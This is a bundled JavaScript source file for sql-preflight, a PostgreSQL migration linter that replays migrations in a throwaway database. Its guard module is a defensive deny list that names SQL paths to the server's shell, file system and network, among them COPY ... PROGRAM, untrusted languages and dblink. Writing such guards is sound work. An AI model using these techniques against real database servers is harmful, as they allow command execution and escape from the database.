      findings.push(...fileFindings);
      continue;
    }
    const executed = maskRanges(source2.text, source2.text.charCodeAt(0) === 65279 ? [{ start: 0, end: 3 }, ...source2.skipped] : source2.skipped);
    const parsed = parseSql(executed, lines.bytes.length);
    if (!parsed.ok) {
      const offset = parsed.error.offset ?? 0;
      const position = lines.position(offset);
      report.parseErrors.push({ ...position, message: parsed.error.message });
      if (source2.change !== void 0) {
        const template = TEMPLATE_MARKERS.exec(executed);
        if (template) {
          const start = Buffer.byteLength(executed.slice(0, template.index), "utf8");
          emit(ENGINE_RULES.templatedSql, { start, end: start + Buffer.byteLength(template[0], "utf8") }, {
            message: `The file contains template placeholders ("${template[0]}\u2026"), so it is not plain SQL and was not analysed (Postgres says: ${parsed.error.message}).`
          });
        } else {
          emit(ENGINE_RULES.syntaxError, { start: offset, end: offset }, { message: `Syntax error: ${parsed.error.message}.` });
        }
      }
      findings.push(...fileFindings);
      continue;
    }
    const statements = analyzeStatements(parsed.statements, source2.transaction, lines);
    const leading = statements.map((s, i) => ({ start: i === 0 ? 0 : statements[i - 1].range.end, end: s.range.start }));
    const file = {
      path: source2.path,
      kind: source2.kind,
      format: source2.format,
      transaction: source2.transaction,
      statements,
      lines,
      leading
    };
    report.statements = statements.map((s) => ({ index: s.index, type: s.type, inTransaction: s.inTransaction, ...lines.span(s.range) }));
    const sourceRef = { file: source2.path, change: source2.change };
    if (source2.change === void 0) {
      for (const statement of statements) catalog.apply(statement, sourceRef);
      continue;
    }
    changed.set(source2.path, file);
    const visitors = [];
    for (const rule of options.rules) {
      if (severityOf(rule.meta.id) === "off" || !appliesTo(rule, options.postgresVersion)) continue;
      const context = {
        options: { ...rule.meta.defaultOptions, ...options.ruleSettings?.[rule.meta.id]?.options },
        postgresVersion: options.postgresVersion,
        file,
        catalog,
        isNewTable(relation) {
          const table = catalog.table(relation);
          return table !== void 0 && table.change === source2.change;
        },
        report(statement, descriptor) {
          emit(rule.meta.id, descriptor.range ?? statement.range, descriptor, statement);
        }
      };
      visitors.push(rule.create(context));
    }
    for (const statement of statements) {
      for (const visitor of visitors) {
        visitor.statement?.(statement);
        visitor[statement.type]?.(statement.node, statement);
      }
      catalog.apply(statement, sourceRef);
    }
    for (const visitor of visitors) visitor.endOfFile?.();
    const { kept, problems } = applyIgnores(fileFindings, findIgnores(file, executed), new Set(byId.keys()));
    suppressed += fileFindings.length - kept.length;
    fileFindings.length = 0;
    for (const problem of problems) emit(ENGINE_RULES.unusedIgnore, problem.range, { message: problem.message });
    findings.push(...kept, ...fileFindings);
  }
  return { files, findings: sortFindings(findings), suppressed, changed };
}
function appliesTo(rule, version) {
  const { since, until } = rule.meta.postgres ?? {};
  return (since === void 0 || version >= since) && (until === void 0 || version <= until);
}
function toFinding(ruleId, severity, path3, lines, range2, descriptor, statement, rule) {
  const finding = {
    ruleId,
    severity,
    file: path3,
    ...lines.span(range2),
    message: descriptor.message,
    help: descriptor.help ?? rule?.meta.safeAlternative,
    docsUrl: rule?.meta.docsUrl ?? "",
    source: "static",
    fingerprint: fingerprint(ruleId, path3, statement?.text ?? lines.slice(range2), descriptor.message)
  };
  if (statement) finding.statement = statement.index;
  if (descriptor.fix) {
    finding.fix = {
      description: descriptor.fix.description,
      edits: descriptor.fix.edits.map((edit) => ({ ...lines.span(edit.range), text: edit.text }))
    };
  }
  if (descriptor.evidence) finding.evidence = descriptor.evidence;
  return finding;
}
function fileFinding(rule, path3, message, severity = rule.meta.severity) {
  return {
    ruleId: rule.meta.id,
    severity,
    file: path3,
    line: 1,
    column: 1,
    endLine: 1,
    endColumn: 1,
    message,
    help: rule.meta.safeAlternative,
    docsUrl: rule.meta.docsUrl,
    source: "static",
    fingerprint: fingerprint(rule.meta.id, path3, "", message)
  };
}
function fingerprint(ruleId, path3, statementText, message) {
  const normalized = statementText.replace(/\s+/g, " ").trim();
  return createHash("sha256").update(`${ruleId}\0${path3}\0${normalized}\0${message}`).digest("hex").slice(0, 32);
}
function sortFindings(findings) {
  return [...findings].sort(
    (a, b) => a.file.localeCompare(b.file) || a.line - b.line || a.column - b.column || SEVERITY_ORDER[a.severity] - SEVERITY_ORDER[b.severity] || a.ruleId.localeCompare(b.ruleId)
  );
}
var ENGINE_RULES, TEMPLATE_MARKERS, SEVERITY_ORDER;
var init_lint = __esm({
  "src/core/lint.ts"() {
    "use strict";
    init_catalog();
    init_parse();
    init_source();
    init_statements();
    init_suppression();
    ENGINE_RULES = {
      syntaxError: "syntax-error",
      templatedSql: "templated-sql",
      unreadableFile: "unreadable-file",
      unusedIgnore: "unused-ignore"
    };
    TEMPLATE_MARKERS = /\{\{|\{%|\$\{[A-Za-z_][\w.]*\}/;
    SEVERITY_ORDER = { error: 0, warning: 1, notice: 2 };
  }
});

// src/db/provider.ts
function parseInt8(text2) {
  const value = BigInt(text2);
  return value >= Number.MIN_SAFE_INTEGER && value <= Number.MAX_SAFE_INTEGER ? Number(value) : value;
}
function describe2(error) {
  if (error instanceof AggregateError && !error.message) return error.errors.map(describe2).join("; ");
  if (error instanceof Error) return error.message.trim() || error.code || error.name;
  return String(error);
}
var ProviderError, QUERY_CANCELED;
var init_provider = __esm({
  "src/db/provider.ts"() {
    "use strict";
    ProviderError = class extends Error {
      name = "ProviderError";
    };
    QUERY_CANCELED = "57014";
  }
});

// src/db/redact.ts
function redactUrl(url) {
  let parsed;
  try {
    parsed = new URL(url);
  } catch {
    return url.replace(/(\/\/[^:/?#@]*:)[^/?#]*@/, `$1${MASK}@`).replace(/(password=)[^&#\s]*/gi, `$1${MASK}`);
  }
  if (parsed.password) parsed.password = MASK;
  for (const key of [...parsed.searchParams.keys()]) {
    if (key.toLowerCase() === "password") parsed.searchParams.set(key, MASK);
  }
  return parsed.toString();
}
function hideSecrets(text2, url) {
  let result2 = text2;
  for (const secret of urlSecrets(url)) result2 = result2.split(secret).join(MASK);
  return result2;
}
function urlSecrets(url) {
  const secrets = [];
  try {
    const parsed = new URL(url);
    secrets.push(parsed.password);
    for (const [key, value] of parsed.searchParams) if (key.toLowerCase() === "password") secrets.push(value);
  } catch {
    const userInfo = /\/\/[^:/?#@]*:([^/?#@]*)@/.exec(url)?.[1];
    const keyValue = /password\s*=\s*('(?:[^'\\]|\\.)*'|[^\s&]+)/i.exec(url)?.[1]?.replace(/^'|'$/g, "");
    secrets.push(userInfo ?? "", keyValue ?? "");
  }
  for (const secret of [...secrets]) {
    try {
      secrets.push(decodeURIComponent(secret));
    } catch {
    }
  }
  return [...new Set(secrets.filter((secret) => secret !== ""))].sort((a, b) => b.length - a.length);
}
var MASK;
var init_redact = __esm({
  "src/db/redact.ts"() {
    "use strict";
    MASK = "***";
  }
});

// src/db/server.ts
import { randomBytes } from "node:crypto";
import { spawnSync } from "node:child_process";
import pg from "pg";
async function startServer(options) {
  let url;
  try {
    url = new URL(options.adminUrl);
  } catch {
    throw new ProviderError(`not a valid postgres:// URL: ${redactUrl(options.adminUrl)}`);
  }
  if (url.protocol !== "postgres:" && url.protocol !== "postgresql:") {
    throw new ProviderError(`not a postgres:// URL: ${redactUrl(options.adminUrl)}`);
  }
  const provider = new ServerProvider(options, `sql_preflight_${randomBytes(6).toString("hex")}`);
  await provider.create();
  return provider;
}
function end(client) {
  return new Promise((resolve5) => {
    const timer = setTimeout(resolve5, CLOSE_WAIT_MS);
    client.end().catch(() => {
    }).finally(() => {
      clearTimeout(timer);
      resolve5();
    });
  });
}
var CONNECT_TIMEOUT_MS, CLOSE_WAIT_MS, INSUFFICIENT_PRIVILEGE, INT8_OID, TYPES, ServerProvider, DROP_SCRIPT;
var init_server = __esm({
  "src/db/server.ts"() {
    "use strict";
    init_provider();
    init_redact();
    CONNECT_TIMEOUT_MS = 1e4;
    CLOSE_WAIT_MS = 2e3;
    INSUFFICIENT_PRIVILEGE = "42501";
    INT8_OID = 20;
    TYPES = {
      getTypeParser: (oid, format) => oid === INT8_OID && format !== "binary" ? parseInt8 : pg.types.getTypeParser(oid, format)
    };
    ServerProvider = class {
      kind;
      concurrent = true;
      serverVersion = { major: 0, full: "" };
      database;
      #options;
      #created = false;
      #sessions = /* @__PURE__ */ new Set();
      #disposed;
      #finished = false;
      constructor(options, database) {
        this.kind = options.kind;
        this.#options = options;
        this.database = database;
      }
      async create() {
        try {
          await this.#admin(
            `CREATE DATABASE ${this.database}`,
            (error, client) => error.code === INSUFFICIENT_PRIVILEGE ? `the role "${client.user}" may not create databases on ${redactUrl(this.#options.adminUrl)}: sql-preflight replays migrations in a throwaway database that it creates and drops; grant the role CREATEDB (ALTER ROLE "${client.user}" CREATEDB), or use --db docker or --db pglite` : `could not create a throwaway database on ${redactUrl(this.#options.adminUrl)}: ${describe2(error)}`
          );
          this.#created = true;
          const session = await this.open();
          try {
            const [row] = await session.query(
              "SELECT current_setting('server_version') AS full, current_setting('server_version_num')::int AS num"
            );
            if (row) this.serverVersion = { major: Math.floor(row.num / 1e4), full: row.full };
          } finally {
            await session.close();
          }
        } catch (error) {
          await this.dispose();
          throw error;
        }
      }
      async open() {
        if (this.#disposed) throw new ProviderError("the database provider has been disposed");
        const client = await this.#connect(this.#urlOf(this.database));
        this.#sessions.add(client);
        let broken = false;
        client.on("error", () => {
          broken = true;
        });
        const use = async (work) => {
          if (!this.#sessions.has(client)) throw new ProviderError("the session is closed");
          try {
            return await work();
          } catch (error) {
            const severity = error.severity;
            if (broken || severity === "FATAL" || severity === "PANIC") throw this.#lost(error);
            throw error;
          }
        };
        return {
          query: (sql, params = []) => use(async () => {
            const config = { text: sql, values: params, queryMode: "extended" };
            return (await client.query(config)).rows;
          }),
          exec: (sql) => use(async () => {
            await client.query(sql);
          }),
          close: async () => {
            if (this.#sessions.delete(client)) await end(client);
          }
        };
      }
      async interrupt() {
        const pids = [...this.#sessions].map((client) => client.processID).filter((pid) => pid !== null);
        if (pids.length === 0) return;
        try {
          const client = await this.#connect(this.#options.adminUrl);
          try {
            await client.query("SELECT pg_cancel_backend(pid) FROM unnest($1::int[]) AS pid", [pids]);
          } finally {
            await end(client);
          }
        } catch {
        }
      }
      /** Never rejects: cleanup runs in `finally` blocks. What could not be removed is reported as a warning. */
      dispose() {
        this.#disposed ??= (async () => {
          try {
            await this.#closeSessions();
            if (this.#options.stop) {
              await this.#options.stop();
            } else if (this.#created) {
              await this.#admin(this.#dropSql(this.database));
            }
          } catch (error) {
            const what = this.#options.stop ? "the PostgreSQL container" : `the database ${this.database}`;
            process.emitWarning(
              hideSecrets(`sql-preflight could not remove ${what}: ${describe2(error)}`, this.#options.adminUrl)
            );
          }
          this.#finished = true;
        })();
        return this.#disposed;
      }
      /** Drops the database from a child process: on 'exit', nothing asynchronous runs any more. */
      disposeSync() {
        if (this.#finished) return;
        if (this.#options.stopSync) return this.#options.stopSync();
        if (!this.#created) return;
        spawnSync(process.execPath, ["--input-type=module", "-e", DROP_SCRIPT], {
          input: JSON.stringify({ pg: import.meta.resolve("pg"), url: this.#options.adminUrl, statements: [this.#dropSql(this.database)] }),
          stdio: ["pipe", "ignore", "ignore"],
          timeout: CONNECT_TIMEOUT_MS
        });
      }
      #dropSql(database) {
        return `DROP DATABASE IF EXISTS ${database}${this.serverVersion.major >= 13 ? " WITH (FORCE)" : ""}`;
      }
      async #closeSessions() {
        const sessions = [...this.#sessions];
        this.#sessions.clear();
        await Promise.all(sessions.map(end));
      }
      /**
       * Runs one statement from the admin URL's database: only CREATE DATABASE and DROP DATABASE come here.
       * `explain` turns a failure into the message of a ProviderError.
       */
      async #admin(sql, explain) {
        const client = await this.#connect(this.#options.adminUrl);
        try {
          await client.query(sql);
        } catch (error) {
          throw explain ? new ProviderError(hideSecrets(explain(error, client), this.#options.adminUrl)) : error;
        } finally {
          await end(client);
        }
      }
      /** The error for a session whose connection ended under it (a stopped server, a terminated backend). */
      #lost(error) {
        const url = new URL(this.#options.adminUrl);
        const where = this.kind === "docker" ? "the PostgreSQL container" : `the server at ${url.host}`;
        return new ProviderError(hideSecrets(`the database was lost (the connection to ${where} ended: ${describe2(error)})`, this.#options.adminUrl), {
          cause: error
        });
      }
      async #connect(url) {
        const client = new pg.Client({
          connectionString: url,
          connectionTimeoutMillis: CONNECT_TIMEOUT_MS,
          statement_timeout: this.#options.statementTimeoutMs,
          application_name: "sql-preflight",
          types: TYPES
        });
        client.on("error", () => {
        });
        try {
          await client.connect();
        } catch (error) {
          await end(client);
          throw new ProviderError(hideSecrets(`could not connect to ${redactUrl(url)}: ${describe2(error)}`, url));
        }
        return client;
      }
      #urlOf(database) {
        const url = new URL(this.#options.adminUrl);
        url.pathname = `/${database}`;
        return url.toString();
      }
    };
    DROP_SCRIPT = `
import { readFileSync } from 'node:fs';
const { pg: pgUrl, url, statements } = JSON.parse(readFileSync(0, 'utf8'));
const { default: pg } = await import(pgUrl);
const client = new pg.Client({ connectionString: url, connectionTimeoutMillis: 5000 });
await client.connect();
for (const sql of statements) await client.query(sql).catch(() => {});
await client.end();
`;
  }
});

// src/db/docker.ts
import { spawnSync as spawnSync2 } from "node:child_process";
import { randomBytes as randomBytes2 } from "node:crypto";
import { existsSync } from "node:fs";
import http from "node:http";
import { homedir } from "node:os";
import { join } from "node:path";
async function findDockerEngine() {
  const dockerHost = process.env.DOCKER_HOST;
  if (dockerHost) {
    if (dockerHost.startsWith("unix://")) {
      return { answered: await ping({ socketPath: dockerHost.slice("unix://".length) }), address: dockerHost };
    }
    if (dockerHost.startsWith("tcp://")) {
      const { hostname, port } = new URL(dockerHost);
      return { answered: await ping({ host: hostname, port: Number(port) || 2375 }), address: dockerHost };
    }
    return { answered: true, address: dockerHost };
  }
  const candidates = /* @__PURE__ */ new Set([
    "/var/run/docker.sock",
    ...process.env.XDG_RUNTIME_DIR ? [join(process.env.XDG_RUNTIME_DIR, "docker.sock")] : [],
    join(homedir(), ".docker", "run", "docker.sock"),
    join(homedir(), ".docker", "desktop", "docker.sock"),
    ...process.getuid ? [`/run/user/${process.getuid()}/docker.sock`] : []
  ]);
  const sockets = [...candidates].filter((path3) => existsSync(path3));
  const answers = await Promise.all(sockets.map((socketPath) => ping({ socketPath })));
  const found = sockets.find((_, index) => answers[index]);
  return { answered: found !== void 0, address: `unix://${found ?? sockets[0] ?? "/var/run/docker.sock"}` };
}
function ping(target) {
  return new Promise((resolve5) => {
    const request = http.get({ ...target, path: "/_ping", timeout: PING_TIMEOUT_MS }, (response) => {
      response.resume();
      resolve5(true);
    });
    request.on("timeout", () => request.destroy());
    request.on("error", () => resolve5(false));
  });
}
async function startDocker(options, engine) {
  if (!engine.answered) {
    throw new ProviderError(`no Docker engine answered at ${engine.address}; start Docker or use --db pglite`);
  }
  process.env.TESTCONTAINERS_RYUK_DISABLED ??= "true";
  const { PostgreSqlContainer } = await import("@testcontainers/postgresql");
  const password = randomBytes2(12).toString("hex");
  let container;
  try {
    container = await new PostgreSqlContainer(options.image).withDatabase("postgres").withPassword(password).start();
  } catch (error) {
    const why = describe2(error).replaceAll(password, "***");
    if (!await imageIsLocal(options.image)) {
      throw new ProviderError(`the image ${options.image} is not available locally and could not be pulled: ${why}`);
    }
    throw new ProviderError(`the PostgreSQL container (${options.image}) did not start: ${why}`);
  }
  const id = container.getId();
  const adminUrl = `postgres://${container.getUsername()}:${password}@${container.getHost()}:${container.getPort()}/postgres`;
  return startServer({
    kind: "docker",
    adminUrl,
    statementTimeoutMs: options.statementTimeoutMs,
    stop: async () => {
      await container.stop();
    },
    stopSync: () => {
      spawnSync2("docker", ["rm", "--force", "--volumes", id], { stdio: "ignore", timeout: REMOVE_TIMEOUT_MS });
    }
  });
}
async function imageIsLocal(image) {
  try {
    const { ImageName, getContainerRuntimeClient } = await import("testcontainers");
    const client = await getContainerRuntimeClient();
    return await client.image.exists(ImageName.fromString(image));
  } catch {
    return false;
  }
}
var PING_TIMEOUT_MS, REMOVE_TIMEOUT_MS;
var init_docker = __esm({
  "src/db/docker.ts"() {
    "use strict";
    init_provider();
    init_server();
    PING_TIMEOUT_MS = 2e3;
    REMOVE_TIMEOUT_MS = 1e4;
  }
});

// src/db/pglite.ts
import { Worker } from "node:worker_threads";
async function startPglite(statementTimeoutMs) {
  const worker = new Worker(new URL(`data:text/javascript,${encodeURIComponent(WORKER_SOURCE)}`), {
    workerData: { pglite: import.meta.resolve("@electric-sql/pglite") },
    resourceLimits: { maxOldGenerationSizeMb: HEAP_LIMIT_MB }
  });
  const provider = new PgliteProvider(worker, statementTimeoutMs);
  let version;
  try {
    version = await provider.ready;
  } catch (error) {
    await provider.dispose();
    throw error;
  }
  provider.serverVersion = { major: Math.floor(version.num / 1e4), full: version.full };
  return provider;
}
function workerFailure(error) {
  if (error.code === "ERR_WORKER_OUT_OF_MEMORY") {
    return new ProviderError(
      `PGlite ran out of memory (its worker reached the ${HEAP_LIMIT_MB} MB heap limit, as a very large query result does); run the check on a real PostgreSQL server with --db docker or --db url`
    );
  }
  return new ProviderError(`PGlite failed: ${describe2(error)}`);
}
var WORKER_SOURCE, STARTUP_TIMEOUT_MS, HEAP_LIMIT_MB, PgliteProvider;
var init_pglite = __esm({
  "src/db/pglite.ts"() {
    "use strict";
    init_provider();
    WORKER_SOURCE = `
import { parentPort, workerData } from 'node:worker_threads';
const { PGlite } = await import(workerData.pglite);
const FIELDS = ['code', 'severity', 'detail', 'hint', 'position', 'internalPosition', 'internalQuery', 'where',
  'schema', 'table', 'column', 'dataType', 'constraint', 'routine'];
const db = await PGlite.create();
const version = (await db.query("SELECT current_setting('server_version') AS full, "
  + "current_setting('server_version_num')::int AS num")).rows[0];
parentPort.postMessage({ id: 0, result: version });
parentPort.on('message', async ({ id, op, sql, params }) => {
  try {
    const result = op === 'query' ? (await db.query(sql, params)).rows : void (await db.exec(sql));
    parentPort.postMessage({ id, result });
  } catch (error) {
    const plain = { message: String(error?.message ?? error) };
    for (const field of FIELDS) if (error?.[field] !== undefined) plain[field] = error[field];
    parentPort.postMessage({ id, error: plain });
  }
});
`;
    STARTUP_TIMEOUT_MS = 6e4;
    HEAP_LIMIT_MB = 512;
    PgliteProvider = class {
      kind = "pglite";
      concurrent = false;
      serverVersion = { major: 0, full: "" };
      ready;
      #worker;
      #statementTimeoutMs;
      #pending = /* @__PURE__ */ new Map();
      #nextId = 1;
      /** Set once the worker is gone; every later call fails with it. */
      #failure;
      #session;
      #disposed;
      constructor(worker, statementTimeoutMs) {
        this.#worker = worker;
        this.#statementTimeoutMs = statementTimeoutMs;
        worker.on("message", (reply) => this.#settle(reply));
        worker.on("error", (error) => this.#fail(workerFailure(error)));
        worker.on("exit", () => this.#fail(new ProviderError("PGlite has stopped")));
        this.ready = this.#track(
          0,
          STARTUP_TIMEOUT_MS,
          () => this.#fail(new ProviderError(`PGlite did not start within ${STARTUP_TIMEOUT_MS / 1e3} s`))
        );
      }
      async open() {
        if (this.#failure) throw this.#failure;
        if (this.#session) throw new ProviderError("PGlite has a single connection: close the open session first");
        let closed = false;
        const use = () => {
          if (closed) throw new ProviderError("the session is closed");
        };
        const session = {
          query: async (sql, params = []) => {
            use();
            return await this.#call("query", sql, params);
          },
          exec: async (sql) => {
            use();
            await this.#call("exec", sql);
          },
          close: async () => {
            if (closed) return;
            closed = true;
            this.#session = void 0;
            if (this.#failure) return;
            await this.#call("exec", "ROLLBACK");
            await this.#call("exec", "DISCARD ALL");
          }
        };
        this.#session = session;
        return session;
      }
      dispose() {
        this.#disposed ??= (async () => {
          this.#fail(new ProviderError("the PGlite database has been disposed"));
          await this.#worker.terminate();
        })();
        return this.#disposed;
      }
      async interrupt(error) {
        this.#fail(error);
        await this.#worker.terminate();
      }
      #call(op, sql, params) {
        if (this.#failure) return Promise.reject(this.#failure);
        const id = this.#nextId++;
        const reply = this.#track(id, this.#statementTimeoutMs, () => {
          const error = Object.assign(
            new Error(
              `canceling statement due to statement timeout (${this.#statementTimeoutMs} ms); PGlite cannot cancel a statement, so its database has been discarded`
            ),
            { code: QUERY_CANCELED }
          );
          const pending = this.#pending.get(id);
          if (pending) {
            this.#forget(id, pending);
            pending.reject(error);
          }
          this.#fail(new ProviderError("the PGlite database was discarded after a statement timed out"));
          void this.#worker.terminate();
        });
        this.#worker.postMessage({ id, op, sql, params });
        return reply;
      }
      #track(id, timeoutMs, onTimeout) {
        this.#worker.ref();
        return new Promise((resolve5, reject) => {
          const timer = setTimeout(onTimeout, timeoutMs);
          this.#pending.set(id, { resolve: resolve5, reject, timer });
        });
      }
      #settle(reply) {
        const pending = this.#pending.get(reply.id);
        if (!pending) return;
        this.#forget(reply.id, pending);
        if (reply.error) {
          const { message, ...fields } = reply.error;
          pending.reject(Object.assign(new Error(message), fields));
        } else {
          pending.resolve(reply.result);
        }
      }
      #fail(error) {
        this.#failure ??= error;
        for (const [id, pending] of this.#pending) {
          this.#forget(id, pending);
          pending.reject(this.#failure);
        }
      }
      #forget(id, pending) {
        clearTimeout(pending.timer);
        this.#pending.delete(id);
        if (this.#pending.size === 0) this.#worker.unref();
      }
    };
  }
});

// src/db/index.ts
async function openProvider(options) {
  const deadline = options.deadline;
  if (deadline && Date.now() >= deadline.atMs) throw deadlineError(deadline);
  const statementTimeoutMs = options.statementTimeoutMs ?? DEFAULT_STATEMENT_TIMEOUT_MS;
  const image = options.postgresImage ?? `postgres:${options.postgresVersion}`;
  const pglite = async (why) => {
    const provider = await startPglite(statementTimeoutMs);
    return { provider, reason: `${why}, so PGlite (PostgreSQL ${provider.serverVersion.full} in WebAssembly) is used` };
  };
  const docker = async (why, engine) => {
    const provider = await startDocker({ image, statementTimeoutMs }, engine);
    return { provider, reason: `${why}, so PostgreSQL ${provider.serverVersion.full} runs in a container from ${image}` };
  };
  const url = async (why, databaseUrl) => {
    const provider = await startServer({ kind: "url", adminUrl: databaseUrl, statementTimeoutMs });
    const where = `${redactUrl(databaseUrl)} (PostgreSQL ${provider.serverVersion.full})`;
    return { provider, reason: `${why}, so migrations run in a throwaway database ${provider.database} on ${where}` };
  };
  let started;
  switch (options.kind) {
    case "pglite":
      started = await pglite("pglite was requested");
      break;
    case "docker":
      started = await docker("docker was requested", await findDockerEngine());
      break;
    case "url":
      if (!options.databaseUrl) throw new ProviderError("the url provider needs a database URL");
      started = await url("url was requested", options.databaseUrl);
      break;
    case "auto": {
      if (options.databaseUrl) {
        started = await url("a database URL was given", options.databaseUrl);
        break;
      }
      const engine = await findDockerEngine();
      if (!engine.answered) {
        started = await pglite(`no Docker engine answered at ${engine.address}`);
        break;
      }
      try {
        started = await docker(`a Docker engine answered at ${engine.address}`, engine);
      } catch (error) {
        started = await pglite(`a Docker engine answered at ${engine.address} but ${describe2(error)}`);
      }
      break;
    }
  }
  if (deadline) enforce(deadline, started.provider);
  return { provider: guard(started.provider), reason: started.reason };
}
function deadlineError(deadline) {
  return new ProviderError(`the run deadline of ${deadline.seconds} s passed`);
}
function enforce(deadline, provider) {
  const error = deadlineError(deadline);
  let passed = false;
  let timer;
  let reach;
  const reached = new Promise((_, reject) => {
    reach = () => reject(error);
  });
  reached.catch(() => {
  });
  const arm = () => {
    const left = deadline.atMs - Date.now();
    if (left > 0) {
      timer = setTimeout(arm, Math.min(left, MAX_TIMER_MS)).unref();
      return;
    }
    passed = true;
    reach();
    void provider.interrupt(error);
  };
  arm();
  const bounded = async (work) => {
    if (passed) throw error;
    try {
      return await Promise.race([work(), reached]);
    } catch (failure2) {
      throw passed ? error : failure2;
    }
  };
  const open = provider.open.bind(provider);
  provider.open = () => bounded(async () => {
    const session = await open();
    return {
      query: (sql, params) => bounded(() => session.query(sql, params)),
      exec: (sql) => bounded(() => session.exec(sql)),
      close: () => session.close()
    };
  });
  const dispose = provider.dispose.bind(provider);
  provider.dispose = () => {
    clearTimeout(timer);
    return dispose();
  };
}
function guard(provider) {
  const onSignal = (signal) => {
    void provider.dispose().then(() => process.kill(process.pid, signal));
  };
  const onBeforeExit = () => void provider.dispose();
  const onExit = () => provider.disposeSync?.();
  process.on("SIGINT", onSignal);
  process.on("SIGTERM", onSignal);
  process.on("beforeExit", onBeforeExit);
  process.on("exit", onExit);
  const dispose = provider.dispose.bind(provider);
  provider.dispose = () => {
    process.off("SIGINT", onSignal);
    process.off("SIGTERM", onSignal);
    process.off("beforeExit", onBeforeExit);
    process.off("exit", onExit);
    return dispose();
  };
  return provider;
}
var DEFAULT_STATEMENT_TIMEOUT_MS, MAX_TIMER_MS;
var init_db = __esm({
  "src/db/index.ts"() {
    "use strict";
    init_docker();
    init_pglite();
    init_provider();
    init_server();
    init_redact();
    init_provider();
    init_redact();
    DEFAULT_STATEMENT_TIMEOUT_MS = 3e4;
    MAX_TIMER_MS = 2 ** 31 - 1;
  }
});

// src/replay/guard.ts
import { parsePlPgSQLSync } from "libpg-query";
function unsafeStatement(statement) {
  const found = refusalOf(statement.type, statement.node, statement.text, 0);
  if (!found) return void 0;
  return { reason: found.reason, offset: found.location ?? statement.range.start };
}
function refusalMessage(refusal) {
  return `sql-preflight did not run this statement: ${refusal.reason}; nothing that reaches outside its throwaway database is run`;
}
function untrustedLanguage(name) {
  return /^pl.*u$/.test(name) || name === "plr" || name === "plsh" || name === "c";
}
function withoutSandbox(language) {
  return `${language} is a language without a sandbox: its code can do anything the server's operating-system user can`;
}
function refusalOf(type, node, text2, depth) {
  return statementRefusal(type, node, text2, depth) ?? callRefusal(node);
}
function statementRefusal(type, node, text2, depth) {
  if (DATABASE_STATEMENTS.has(type) || onDatabase(type, node)) {
    return { reason: "it acts on a database of the server, and sql-preflight's own throwaway database is the only one it touches" };
  }
  if (TABLESPACE_STATEMENTS.has(type)) return { reason: "tablespaces are directories on the database server's file system, shared by all its databases" };
  if (FOREIGN_STATEMENTS.has(type)) return { reason: "foreign servers, user mappings and subscriptions connect to other databases" };
  switch (type) {
    case "AlterSystemStmt":
      return { reason: "ALTER SYSTEM changes the configuration of the whole server" };
    case "LoadStmt":
      return { reason: "LOAD loads a shared library into the server" };
    case "CopyStmt":
      if (node.is_program) return { reason: "COPY ... PROGRAM runs a shell command on the database server" };
      if (node.filename !== void 0) return { reason: "COPY with a file name reads or writes a file on the database server's file system" };
      return void 0;
    case "CreateExtensionStmt": {
      const name = String(node.extname ?? "");
      if (untrustedLanguage(name)) return { reason: withoutSandbox(name) };
      return OUTREACHING_EXTENSIONS.has(name) || name.endsWith("_fdw") ? { reason: `the ${name} extension reaches outside the database: other servers, the file system or the network` } : void 0;
    }
    case "CreatePLangStmt": {
      const name = String(node.plname ?? "");
      return untrustedLanguage(name) || node.plhandler !== void 0 && node.pltrusted !== true ? { reason: withoutSandbox(name) } : void 0;
    }
    case "CreateFunctionStmt":
    case "DoStmt":
      return bodyRefusal(type, node, text2, depth);
    case "CreateRoleStmt":
    case "AlterRoleStmt": {
      const options = defElems(node.options);
      const power = options.find((option) => SERVER_WIDE_ROLE_OPTIONS.has(option.defname) && option.arg?.Boolean?.boolval === true);
      if (power) return { reason: `a role with ${power.defname.toUpperCase()} has powers over the whole server, and roles outlive the throwaway database`, location: power.location };
      const password = type === "AlterRoleStmt" ? options.find((option) => option.defname === "password") : void 0;
      return password ? { reason: "it changes an existing role's password, which belongs to the server, not to the throwaway database", location: password.location } : void 0;
    }
    case "GrantRoleStmt": {
      const roles = (node.granted_roles ?? []).map((role) => role.AccessPriv?.priv_name ?? "");
      const power = roles.find((role) => SERVER_WIDE_ROLES.has(role));
      return node.is_grant && power ? { reason: `members of ${power} reach the server's files, programs or sessions` } : void 0;
    }
    case "VariableSetStmt":
      return node.kind !== "VAR_RESET" && node.kind !== "VAR_RESET_ALL" && (node.name === "role" || node.name === "session_authorization") ? { reason: "it changes the role the statements run as" } : void 0;
    default:
      return void 0;
  }
}
function onDatabase(type, node) {
  switch (type) {
    case "GrantStmt":
      return node.objtype === "OBJECT_DATABASE" || node.objtype === "OBJECT_TABLESPACE" || node.objtype === "OBJECT_PARAMETER_ACL";
    case "CommentStmt":
    case "SecLabelStmt":
      return node.objtype === "OBJECT_DATABASE" || node.objtype === "OBJECT_TABLESPACE";
    case "AlterOwnerStmt":
      return node.objectType === "OBJECT_DATABASE" || node.objectType === "OBJECT_TABLESPACE";
    case "RenameStmt":
      return node.renameType === "OBJECT_DATABASE" || node.renameType === "OBJECT_TABLESPACE";
    default:
      return false;
  }
}
function callRefusal(node) {
  let found;
  walk(node, (key, value) => {
    if (found || key !== "FuncCall") return;
    const call = value;
    const name = (constantText(call.funcname?.at(-1)) ?? "").toLowerCase();
    if (SIGNALS.has(name) && signalsItself(call.args?.[0])) return;
    const reason = OUTREACHING_FUNCTIONS.get(name) ?? (name.startsWith("dblink") || name.startsWith("postgres_fdw") ? "connects to another database" : void 0) ?? (name === "set_config" && ["role", "session_authorization"].includes(constantText(call.args?.[0]) ?? "") ? "changes the role the statements run as" : void 0);
    if (reason) found = { reason: `${name}() ${reason}`, ...call.location !== void 0 && call.location >= 0 ? { location: call.location } : {} };
  });
  return found;
}
function signalsItself(arg) {
  const call = arg?.FuncCall;
  return call !== void 0 && (call.args ?? []).length === 0 && constantText(call.funcname?.at(-1))?.toLowerCase() === "pg_backend_pid";
}
function walk(value, visit) {
  if (Array.isArray(value)) {
    for (const item of value) walk(item, visit);
  } else if (value && typeof value === "object") {
    for (const [key, child] of Object.entries(value)) {
      visit(key, child);
      walk(child, visit);
    }
  }
}
function bodyRefusal(type, node, text2, depth) {
  const options = defElems(type === "DoStmt" ? node.args : node.options);
  const language = (constantText(options.find((option) => option.defname === "language")?.arg) ?? "plpgsql").toLowerCase();
  if (untrustedLanguage(language)) {
    return { reason: language === "c" ? "a C function loads a shared library into the server" : withoutSandbox(language) };
  }
  const as = options.find((option) => option.defname === "as")?.arg;
  const body = constantText(as) ?? constantText(as?.List?.items?.[0]);
  if (body === void 0) return void 0;
